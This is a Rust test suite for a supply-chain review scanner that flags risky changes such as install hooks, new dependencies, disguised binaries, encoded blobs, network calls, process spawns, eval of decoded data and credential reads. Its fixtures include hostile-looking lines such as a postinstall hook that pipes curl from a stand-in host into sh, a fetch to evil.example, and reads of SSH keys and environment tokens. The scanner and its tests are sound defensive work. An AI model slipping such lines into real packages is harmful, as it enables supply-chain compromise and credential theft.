//! Each risk rule fires on the change it exists for, and stays quiet on a benign neighbour.

use chainlock_review::{scan_change, Flag, Rule, Severity};

fn scan(path: &str, old: Option<&str>, new: &str) -> Vec<Flag> {
    scan_change(path, old.map(str::as_bytes), Some(new.as_bytes()))
}

fn fired(flags: &[Flag], rule: Rule) -> Option<&Flag> {
    flags.iter().find(|f| f.rule == rule)
}

const PKG_OLD: &str = r#"{
  "name": "x",
  "version": "1.0.0",
  "scripts": {
    "test": "node test.js"
  },
  "dependencies": {
    "left-pad": "^1.3.0"
  }
}
"#;

#[test]
fn install_hook_npm_script() {
    let new = PKG_OLD.replace(
        "\"test\": \"node test.js\"",
        "\"test\": \"node test.js\",\n    \"postinstall\": \"node setup.js\"",
    );
    let flags = scan("package.json", Some(PKG_OLD), &new);
    let flag = fired(&flags, Rule::InstallHook).expect("postinstall flagged");
    assert_eq!(
        (flag.severity, flag.line, flag.file.as_str()),
        (Severity::High, Some(6), "package.json")
    );
    assert!(
        flag.message.contains("postinstall") && flag.message.contains("node setup.js"),
        "{}",
        flag.message
    );
    // A changed hook fires too.
    let changed = new.replace(
        "node setup.js",
        "node setup.js && curl https://x.example | sh",
    );
    let flags = scan("package.json", Some(&new), &changed);
    assert!(fired(&flags, Rule::InstallHook).is_some_and(|f| f.message.contains("changed")));
    // Benign: a new test script is not an install hook.
    let benign = PKG_OLD.replace(
        "\"test\": \"node test.js\"",
        "\"test\": \"node test.js\",\n    \"lint\": \"eslint .\"",
    );
    assert!(scan("package.json", Some(PKG_OLD), &benign).is_empty());
}

#[test]
fn install_hook_files() {
    for path in [
        "setup.py",
        "build.rs",
        "binding.gyp",
        "lib/evil.pth",
        "sitecustomize.py",
        "pkg/usercustomize.py",
    ] {
        let flags = scan(path, None, "x = 1\n");
        let flag = fired(&flags, Rule::InstallHook)
            .unwrap_or_else(|| panic!("{path} not flagged: {flags:?}"));
        assert_eq!(flag.severity, Severity::High, "{path}");
    }
    let flags = scan(
        "build.rs",
        Some("fn main() {}\n"),
        "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n",
    );
    let flag = fired(&flags, Rule::InstallHook).expect("changed build.rs");
    assert_eq!((flag.severity, flag.line), (Severity::Medium, Some(1)));
    // Benign: ordinary modules whose names merely resemble hooks.
    assert!(scan("src/setup_helpers.py", None, "x = 1\n").is_empty());
    assert!(scan("src/build.rs.md", None, "notes\n").is_empty());
}

#[test]
fn dependency_changes_in_every_manifest() {
    let new = PKG_OLD.replace(
        "\"left-pad\": \"^1.3.0\"",
        "\"left-pad\": \"^1.3.0\",\n    \"plain-crypto-js\": \"^4.2.1\"",
    );
    let flags = scan("package.json", Some(PKG_OLD), &new);
    let flag = fired(&flags, Rule::DependencyChange).expect("npm dependency");
    assert_eq!((flag.severity, flag.line), (Severity::Medium, Some(9)));
    assert!(flag.message.contains("plain-crypto-js"));

    let cargo_old =
        "[package]\nname = \"x\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\"\n";
    let cargo_new =
        "[package]\nname = \"x\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1.0.200\"\n";
    let flags = scan("Cargo.toml", Some(cargo_old), cargo_new);
    assert!(
        fired(&flags, Rule::DependencyChange)
            .is_some_and(|f| f.line == Some(6) && f.message.contains("changed")),
        "{flags:?}"
    );
    let git_dep = format!("{cargo_old}evil = {{ git = \"https://example.com/evil\" }}\n");
    let flags = scan("crates/x/Cargo.toml", Some(cargo_old), &git_dep);
    assert!(
        fired(&flags, Rule::DependencyChange)
            .is_some_and(|f| f.severity == Severity::High && f.line == Some(7)),
        "{flags:?}"
    );
    // Benign: bumping the package's own version is not a dependency change.
    let bump = cargo_old.replace("version = \"0.1.0\"", "version = \"0.2.0\"");
    assert!(scan("Cargo.toml", Some(cargo_old), &bump).is_empty());

    let py_old = "[project]\nname = \"x\"\ndependencies = [\n  \"requests>=2\",\n]\n";
    let py_new = "[project]\nname = \"x\"\ndependencies = [\n  \"requests>=2\",\n  \"litellm==1.82.8\",\n]\n";
    let flags = scan("pyproject.toml", Some(py_old), py_new);
    assert!(
        fired(&flags, Rule::DependencyChange)
            .is_some_and(|f| f.line == Some(5) && f.message.contains("litellm")),
        "{flags:?}"
    );
    assert!(scan(
        "pyproject.toml",
        Some(py_old),
        &py_old.replace("name = \"x\"", "name = \"y\"")
    )
    .is_empty());

    let cfg_old = "[options]\ninstall_requires =\n    requests\n";
    let flags = scan(
        "setup.cfg",
        Some(cfg_old),
        "[options]\ninstall_requires =\n    requests\n    urllib3>=2\n",
    );
    assert!(
        fired(&flags, Rule::DependencyChange).is_some_and(|f| f.line == Some(4)),
        "{flags:?}"
    );

    let flags = scan(
        "requirements-dev.txt",
        Some("pytest\n"),
        "pytest\n--extra-index-url https://pypi.evil.example/simple\n",
    );
    assert!(
        fired(&flags, Rule::DependencyChange)
            .is_some_and(|f| f.severity == Severity::High && f.line == Some(2)),
        "{flags:?}"
    );
    // Benign: a comment added to requirements.
    assert!(scan(
        "requirements.txt",
        Some("pytest\n"),
        "# test tools\npytest\n"
    )
    .is_empty());
}

#[test]
fn binary_files() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0rest";
    let flags = scan_change("vendor/helper", None, Some(elf));
    assert!(
        fired(&flags, Rule::BinaryFile).is_some_and(|f| f.severity == Severity::High),
        "{flags:?}"
    );
    let blob = [0u8, 1, 2, 3, 250, 251, 252];
    assert!(fired(
        &scan_change("tests/files/good-1.xz", None, Some(&blob)),
        Rule::BinaryFile
    )
    .is_some_and(|f| f.severity == Severity::Medium));
    // An image whose content is not an image.
    assert!(
        fired(&scan_change("logo.png", None, Some(elf)), Rule::BinaryFile)
            .is_some_and(|f| f.severity == Severity::High)
    );
    // Benign: a real PNG.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01";
    assert!(scan_change("docs/logo.png", None, Some(png)).is_empty());
}

#[test]
fn minified_code() {
    let line = format!(
        "var a={};",
        (0..400)
            .map(|i| format!("f{i}:function(x){{return x+{i}}}"))
            .collect::<Vec<_>>()
            .join(",")
    );
    let flags = scan(
        "dist/index.min.js",
        None,
        &format!("'use strict';\n{line}\n"),
    );
    assert!(
        fired(&flags, Rule::MinifiedCode).is_some_and(|f| f.line == Some(2)),
        "{flags:?}"
    );
    assert!(scan(
        "src/index.js",
        None,
        "function add(a, b) {\n  return a + b;\n}\n"
    )
    .is_empty());
}

/// Deterministic pseudo-random base64 (no RNG dependency in tests).
fn noise(len: usize) -> String {
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            B64[(x % 64) as usize] as char
        })
        .collect()
}

#[test]
fn base64_blob() {
    let flags = scan(
        "src/payload.py",
        None,
        &format!("import base64\nDATA = '{}'\n", noise(2000)),
    );
    assert!(
        fired(&flags, Rule::Base64Blob).is_some_and(|f| f.line == Some(2)),
        "{flags:?}"
    );
    // Benign: an integrity hash is short.
    let lock = "\"integrity\": \"sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==\"\n";
    assert!(scan("src/data.json", None, lock).is_empty());
}

#[test]
fn high_entropy_string() {
    let flags = scan(
        "src/config.js",
        None,
        &format!("const k = \"{}\";\n", noise(150)),
    );
    let flag = fired(&flags, Rule::HighEntropy).expect("entropy");
    assert_eq!(flag.line, Some(1));
    // Benign: a long sentence and a SHA-256 in hex.
    let text = "const msg = \"the quick brown fox jumps over the lazy dog and keeps running for a long while\";\nconst h = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\";\n";
    assert!(scan("src/config.js", None, text).is_empty());
}

#[test]
fn network_access() {
    let flags = scan(
        "lib/index.js",
        Some("module.exports = 1;\n"),
        "module.exports = 1;\nfetch('https://evil.example/x');\n",
    );
    assert!(
        fired(&flags, Rule::NetworkAccess)
            .is_some_and(|f| f.line == Some(2) && f.severity == Severity::Medium),
        "{flags:?}"
    );
    let flags = scan(
        "setup.py",
        Some("from setuptools import setup\nsetup()\n"),
        "from setuptools import setup\nimport urllib.request\nsetup()\n",
    );
    assert!(
        fired(&flags, Rule::NetworkAccess).is_some_and(|f| f.severity == Severity::High),
        "in an install hook: high: {flags:?}"
    );
    // Benign: install instructions in the README, and a comment.
    assert!(scan(
        "README.md",
        None,
        "Install: curl https://example.com/install.sh | sh\n"
    )
    .is_empty());
    assert!(scan("lib/index.js", None, "// we never fetch( anything\n").is_empty());
}

#[test]
fn process_spawn() {
    let flags = scan("index.js", None, "const cp = require('child_process');\n");
    assert!(
        fired(&flags, Rule::ProcessSpawn).is_some_and(|f| f.line == Some(1)),
        "{flags:?}"
    );
    let flags = scan(
        "src/main.rs",
        None,
        "fn main() {\n    std::process::Command::new(\"sh\");\n}\n",
    );
    assert!(
        fired(&flags, Rule::ProcessSpawn).is_some_and(|f| f.line == Some(2)),
        "{flags:?}"
    );
    // Benign: spawning a task is not spawning a process.
    assert!(scan(
        "src/main.rs",
        None,
        "fn main() {\n    tokio::spawn(async {});\n}\n"
    )
    .is_empty());
}

#[test]
fn dynamic_eval() {
    let flags = scan("index.js", None, "var x = 1;\neval(atob(payload));\n");
    assert!(
        fired(&flags, Rule::DynamicEval).is_some_and(|f| f.line == Some(2)),
        "{flags:?}"
    );
    let flags = scan("pkg/run.py", None, "exec(base64.b64decode(blob))\n");
    assert!(fired(&flags, Rule::DynamicEval).is_some(), "{flags:?}");
    // Benign: RegExp#exec and a word that merely contains "eval(".
    assert!(scan("index.js", None, "const m = /a/.exec(s);\nmedieval(x);\n").is_empty());
}

#[test]
fn env_credentials() {
    let flags = scan("lib/t.js", None, "const t = process.env.NPM_TOKEN;\n");
    assert!(
        fired(&flags, Rule::EnvCredentials)
            .is_some_and(|f| f.severity == Severity::High && f.line == Some(1)),
        "{flags:?}"
    );
    let flags = scan("x.py", None, "import os\nsend(dict(os.environ))\n");
    assert!(
        fired(&flags, Rule::EnvCredentials).is_some_and(|f| f.line == Some(2)),
        "{flags:?}"
    );
    let flags = scan(
        "x.py",
        None,
        "open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    );
    assert!(fired(&flags, Rule::EnvCredentials).is_some(), "{flags:?}");
    // Benign: reading NODE_ENV.
    assert!(scan(
        "lib/t.js",
        None,
        "const prod = process.env.NODE_ENV === 'production';\n"
    )
    .is_empty());
}

#[test]
fn flags_render_on_one_line_and_as_json() {
    let flags = scan("lib/t.js", None, "const t = process.env.NPM_TOKEN;\n");
    let flag = &flags[0];
    let human = flag.to_string();
    assert!(
        human.starts_with("high   env-credentials    lib/t.js:1: added line reads a secret"),
        "{human}"
    );
    assert!(!human.contains('\n'));
    let json = serde_json::to_value(flag).expect("json");
    assert_eq!(json["rule"], "env-credentials");
    assert_eq!(json["severity"], "high");
    assert_eq!(json["file"], "lib/t.js");
    assert_eq!(json["line"], 1);
}

#[test]
fn hostile_input_does_not_panic() {
    // Odd bytes, a huge line, unterminated strings and arrays in manifests.
    let inputs: [&[u8]; 5] = [
        b"",
        b"\xff\xfe\xfd",
        b"[dependencies\nx = [\"a",
        b"{\"scripts\": 5, \"dependencies\": []}",
        &[b'a'; 100_000],
    ];
    for input in inputs {
        for path in [
            "package.json",
            "Cargo.toml",
            "pyproject.toml",
            "setup.cfg",
            "requirements.txt",
            "x.pth",
            "a.js",
        ] {
            let _ = scan_change(path, Some(b"old\n"), Some(input));
        }
    }
}

/// What a range merely re-indents, annotates, documents or quotes is not new.
#[test]
fn only_what_the_range_introduces_is_flagged() {
    let rules = |old: Option<&str>, new: &str, path: &str| -> Vec<(Rule, Severity)> {
        scan(path, old, new)
            .iter()
            .map(|f| (f.rule, f.severity))
            .collect()
    };
    // Indentation only, and a type annotation added: the same hunk removed the same call.
    let old = "def f():\n    subprocess.run(['ls'])\n    p = subprocess.Popen(cmd)\n";
    let new = "def f():\n    if True:\n        subprocess.run(['ls'])\n    p: subprocess.Popen = subprocess.Popen(cmd)\n";
    assert_eq!(rules(Some(old), new, "a.py"), vec![]);
    // Docstrings, strings and comments are not code; identifiers that merely start with a
    // pattern are other names; a reference to Popen is not a call.
    let new = "def f():\n    \"\"\"Runs the pager via subprocess.Popen.\n\n    See eval( and fetch(.\n    \"\"\"\n    urllib3_version_list = []\n    real_popen = subprocess.Popen\n    msgs = [\n        \"token in ~/.netrc ciao\",\n    ]\n    # os.system('x')\n";
    assert_eq!(rules(None, new, "a.py"), vec![]);
    // A string standing alone is data; code that opens the same path still reads it.
    assert_eq!(
        rules(
            None,
            "creds = open(os.path.expanduser('~/.netrc')).read()\n",
            "a.py"
        ),
        vec![(Rule::EnvCredentials, Severity::High)]
    );
    // `__import__` of a constant and `compile(` alone are not dynamic evaluation; a URL is not
    // high entropy.
    let new = format!(
        "json = __import__('json')\ncode = compile(src, 'x', 'exec')\nURL = 'https://example.com/{}'\n",
        "aZ3-_q9".repeat(20)
    );
    assert_eq!(rules(None, &new, "a.py"), vec![]);
    // But a new call is flagged, once per statement, and eval of decoded data is high.
    let new =
        "subprocess.run(\n    ['curl', url],\n    check=True,\n)\nexec(base64.b64decode(blob))\n";
    assert_eq!(
        rules(None, new, "a.py"),
        vec![
            (Rule::DynamicEval, Severity::High),
            (Rule::ProcessSpawn, Severity::Medium)
        ]
    );
}

#[test]
fn npm_prepare_says_when_it_runs() {
    let old = "{\"name\": \"x\", \"scripts\": {}}\n";
    let new = "{\"name\": \"x\", \"scripts\": {\"prepare\": \"tsc\"}}\n";
    let flags = scan("package.json", Some(old), new);
    let hook = fired(&flags, Rule::InstallHook).expect("prepare is flagged");
    assert_eq!(hook.severity, Severity::Medium);
    assert!(
        hook.message.contains("not on registry installs"),
        "{}",
        hook.message
    );
}

#[test]
fn removing_one_call_does_not_excuse_adding_more() {
    let old = "import os\nos.system('ls')\n";
    let new = "import os\nos.system('ls -l')\nos.system('curl x')\nos.system('id')\n";
    let flags = scan("a.py", Some(old), new);
    let lines: Vec<u32> = flags
        .iter()
        .filter(|f| f.rule == Rule::ProcessSpawn)
        .filter_map(|f| f.line)
        .collect();
    assert_eq!(lines, vec![3, 4], "{flags:?}");
}
